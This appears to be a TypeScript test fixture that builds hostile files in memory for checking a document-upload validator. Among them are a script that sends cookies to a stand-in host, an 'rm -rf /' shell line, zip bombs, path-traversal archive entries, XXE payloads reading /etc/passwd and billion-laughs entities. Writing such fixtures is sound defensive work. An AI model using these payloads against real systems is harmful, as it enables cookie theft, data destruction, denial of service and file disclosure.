import { Buffer } from 'node:buffer';
import { HOSTILE_IMAGES, pngClaiming } from './hostile-images.ts';
import { compoundFile, officeFile, officeParts, zipOf, type ZipPart } from './office-files.ts';

/** A minimal PDF that contains these objects. */
export const pdfHolding = (objects = ''): Buffer =>
  Buffer.from(`%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n${objects}
trailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n`);

const SCRIPT = '<script>fetch("https://ailleurs.example/" + document.cookie)</script>';
const xlsxHolding = (sharedStrings: string | Buffer) => officeFile('xlsx', [{ name: 'xl/sharedStrings.xml', content: sharedStrings }]);
const LAUGHS = `<!DOCTYPE lolz [<!ENTITY a "ha">${'bcdefgh'
  .split('')
  .map((name, i) => `<!ENTITY ${name} "${`&${'abcdefg'[i]};`.repeat(10)}">`)
  .join('')}]>`;

function nested(levels: number): Buffer {
  let inner = officeFile('docx');
  for (let level = 1; level < levels; level += 1) inner = officeFile('docx', [{ name: 'word/embeddings/dedans.docx', content: inner }]);
  return inner;
}

const overlapping = () => {
  const [contents, ...rest] = officeParts('docx', [{ name: 'word/a.bin', content: Buffer.alloc(4096, 'a') }]);
  return zipOf([contents!, ...rest, { name: 'word/b.bin', content: Buffer.alloc(4096, 'a'), claimedAt: 0 }]);
};
const emptyParts = (count: number): ZipPart[] => Array.from({ length: count }, (_, n) => ({ name: `word/vide-${n}.bin`, method: 0 }));
const TRIAL = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!', '$H+H*'].join('');

/** A GIF with this many frames of one pixel. */
export const gifOf = (frames: number): Buffer =>
  Buffer.concat([
    Buffer.from('GIF89a\u0001\0\u0001\0\0\0\0', 'latin1'),
    ...Array.from({ length: frames }, () => Buffer.from(',\0\0\0\0\u0001\0\u0001\0\0\u0002\u0002D\u0001\0', 'latin1')),
    Buffer.from(';'),
  ]);

/** Files and their expected error codes. Built in memory: none of them is stored in the repository. */
export const HOSTILE_DOCUMENTS = {
  'the EICAR test file': [Buffer.from(TRIAL), 'document.type-refused'],
  'HTML under the first bytes of a JPEG': [HOSTILE_IMAGES['HTML under the first bytes of a JPEG'], 'document.unreadable'],
  'plain HTML': [HOSTILE_IMAGES['plain HTML'], 'document.type-refused'],
  'HTML after an empty line, in UTF-8 with a byte order mark': [Buffer.from(`\uFEFF\n <html>${SCRIPT}`), 'document.type-refused'],
  'HTML in UTF-16': [Buffer.from(`\uFEFF<html>${SCRIPT}</html>`, 'utf16le'), 'document.type-refused'],
  'text that contains a script': [Buffer.from(`Bonjour\n${SCRIPT}`), 'document.type-refused'],
  'HTML that begins like a PDF': [HOSTILE_IMAGES['PDF that is HTML'], 'document.unreadable'],
  'a PDF with HTML in its head': [Buffer.from(`%PDF-1.4\n<html>${SCRIPT}</html>\nstartxref\n0\n%%EOF`), 'document.unsafe'],
  'a PDF signature inside HTML': [Buffer.from(`<html>%PDF-1.4${SCRIPT}</html>`), 'document.type-refused'],
  'a PDF followed by an archive': [Buffer.concat([pdfHolding(), zipOf([{ name: 'a.html', content: SCRIPT }])]), 'document.unsafe'],
  'a truncated PDF': [pdfHolding().subarray(0, 60), 'document.unreadable'],
  'SVG with a script': [HOSTILE_IMAGES['SVG with a script'], 'document.type-refused'],
  'SVG after an XML declaration': [HOSTILE_IMAGES['SVG after an XML declaration'], 'document.type-refused'],
  'GIF that is also a script': [HOSTILE_IMAGES['GIF that is also a script'], 'document.unreadable'],
  'a script': [Buffer.from('#!/bin/sh\nrm -rf /\n'), 'document.type-refused'],
  'a Windows executable': [Buffer.from(`4d5a90000300000004000000ffff0000${'00'.repeat(64)}`, 'hex'), 'document.type-refused'],
  'a Linux executable': [Buffer.from(`7f454c460201010000000000${'00'.repeat(64)}`, 'hex'), 'document.type-refused'],
  'RTF with an embedded object': [Buffer.from('{\\rtf1\\ansi{\\object\\objdata 0105}}'), 'document.type-refused'],
  TIFF: [HOSTILE_IMAGES['TIFF header'], 'document.type-refused'],
  HEIC: [HOSTILE_IMAGES['HEIC header'], 'document.type-refused'],
  'a picture of 50 000 × 50 000': [pngClaiming(50_000, 50_000), 'file.too-many-pixels'],
  'a truncated picture': [pngClaiming(10, 10).subarray(0, 40), 'document.unreadable'],
  'a GIF of 10 000 frames': [gifOf(10_000), 'document.unsafe'],
  'a plain archive': [zipOf([{ name: 'a.txt', content: 'a' }]), 'document.type-refused'],
  'an empty archive': [HOSTILE_IMAGES['ZIP archive'], 'document.type-refused'],
  'a zip bomb of one gigabyte': [
    officeFile('xlsx', [{ name: 'xl/zeros.bin', content: Buffer.alloc(64 * 1024 * 1024), claimedBytes: 1024 ** 3 }]),
    'document.unsafe',
  ],
  'a zip bomb that declares a small size': [
    officeFile('xlsx', [{ name: 'xl/zeros.bin', content: Buffer.alloc(64 * 1024 * 1024), claimedBytes: 100 }]),
    'document.unsafe',
  ],
  'ten nested archives': [nested(10), 'document.unsafe'],
  'a plain archive inside a document': [
    officeFile('docx', [{ name: 'word/embeddings/a.docx', content: zipOf([{ name: 'a.exe', content: 'MZ' }]) }]),
    'document.unsafe',
  ],
  'tens of thousands of empty entries': [officeFile('docx', emptyParts(60_000)), 'document.unsafe'],
  'overlapping entries': [overlapping(), 'document.unsafe'],
  'an entry outside its folder': [officeFile('docx', [{ name: '../../../x', content: 'x' }]), 'document.unsafe'],
  'an entry with an absolute path': [officeFile('docx', [{ name: '/etc/cron.d/x', content: 'x' }]), 'document.unsafe'],
  'an entry outside its folder, with a Windows path': [officeFile('docx', [{ name: '..\\..\\x', content: 'x' }]), 'document.unsafe'],
  'a symbolic link': [officeFile('docx', [{ name: 'lien', content: '/etc/passwd', unixMode: 0xa1ff }]), 'document.unsafe'],
  'two entries with the same name': [officeFile('docx', [{ name: 'MAIN.xml', content: '<autre/>' }]), 'document.unsafe'],
  'an executable inside a document': [officeFile('docx', [{ name: 'word/media/image1.png', content: 'MZ\u0090\0' }]), 'document.unsafe'],
  'nested entities': [xlsxHolding(`<?xml version="1.0"?>${LAUGHS}<sst>&h;</sst>`), 'document.unsafe'],
  'an external DTD': [xlsxHolding('<?xml version="1.0"?><!DOCTYPE a SYSTEM "file:///etc/passwd"><sst/>'), 'document.unsafe'],
  'an external DTD in UTF-16': [
    xlsxHolding(Buffer.from('\uFEFF<?xml version="1.0"?><!DOCTYPE a SYSTEM "file:///etc/passwd"><sst/>', 'utf16le')),
    'document.unsafe',
  ],
  'a document with macros': [officeFile('docm'), 'document.macros'],
  'macros under another type': [officeFile('docx', [{ name: 'word/vbaProject.bin', content: 'x' }]), 'document.macros'],
  'macros in a document before Office 2007': [compoundFile(['WordDocument', 'Macros']), 'document.macros'],
  'an encrypted archive': [zipOf(officeParts('docx').map((part) => ({ ...part, flags: 1 }))), 'document.locked'],
  'a document encrypted with a password': [compoundFile(['EncryptionInfo', 'EncryptedPackage']), 'document.locked'],
  'a Windows installer': [compoundFile(['_StringData', 'Property']), 'document.type-refused'],
  'a cyclic directory list': [compoundFile(['WordDocument'], { nextOfList: 1 }), 'document.unsafe'],
  'an archive with leading bytes': [Buffer.concat([Buffer.from('PK\u0003\u0004'), officeFile('docx')]), 'document.unsafe'],
  'an archive with trailing bytes': [Buffer.concat([officeFile('docx'), Buffer.from('<script>')]), 'document.unreadable'],
  'a truncated archive': [officeFile('docx').subarray(0, 200), 'document.unreadable'],
  'an empty file': [Buffer.alloc(0), 'file.empty'],
} as const satisfies Record<string, readonly [Buffer, string]>;
